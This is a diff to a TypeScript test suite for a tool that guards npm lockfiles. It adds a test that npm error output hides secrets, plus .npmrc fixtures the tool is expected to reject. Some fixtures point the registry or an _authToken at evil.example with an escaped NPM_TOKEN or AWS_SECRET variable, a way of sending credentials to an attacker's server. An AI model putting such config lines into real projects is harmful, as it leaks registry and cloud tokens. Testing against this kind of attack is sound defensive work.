@@ -151,6 +151,14 @@ describe('the lockfile stays as it is', () => {
     });
   });
 
+  it('and the message of npm shows no secret of its environment', async () => {
+    const script = `console.error('404 https://me:pass@r.example/' + process.env.NPM_TOKEN + '/a'); process.exit(1)`;
+    const variable = (name: string) => ({ PATH: bin.path, NPM_TOKEN: 'tok/en' })[name];
+    await expect(raise(script, {}, { variable })).rejects.toThrow(
+      /^npm failed with status 1: 404 https:\/\/(?!me:pass).*r\.example\/…\/a$/,
+    );
+  });
+
   it('if npm changes a package that the raised one does not need', async () => {
     const lock = RAISED.replace(/(?<="node_modules\/c": \{\s+"version": )"1.0.0"/, '"6.6.6"');
     await expect(raise(writes(lock))).rejects.toThrow('it changes c 6.6.6');
@@ -206,6 +214,23 @@ describe('the lockfile stays as it is', () => {
       { 'app/.npmrc': `//evil.example/:_authToken=\${AWS_SECRET}` },
       'the variable AWS_SECRET',
     ],
+    [
+      'hides a variable in an escape',
+      { 'app/.npmrc': 'registry="https://evil.example/\\u0024{NPM_TOKEN}/"' },
+      '.npmrc sets "registry" with quotation marks, escapes',
+    ],
+    [
+      'hides the variable of a login in an escape',
+      { 'app/.npmrc': '//evil.example/:_authToken="\\u0024{NPM_TOKEN}"' },
+      'which npm may read as a variable',
+    ],
+    ['has single quotation marks', { 'app/.npmrc': "registry='x'" }, 'quotation marks'],
+    ['escapes a character', { 'app/.npmrc': 'registry=x\\;y' }, 'escapes'],
+    ['has half a variable', { 'app/.npmrc': 'registry=$' }, 'which npm may read as a variable'],
+    ['has a line separator', { 'app/.npmrc': 'registry=x\u2028y' }, 'special characters'],
+    ['has a section', { 'app/.npmrc': '[registry]' }, '.npmrc sets "[registry]"'],
+    ['has a list', { 'app/.npmrc': 'registry[] = x' }, '.npmrc sets "registry[]"'],
+    ['has a variable as a key', { 'app/.npmrc': '$' + '{A} = x' }, '.npmrc sets "$' + '{A}"'],
     [
       'has a workspace outside of the project',
       {
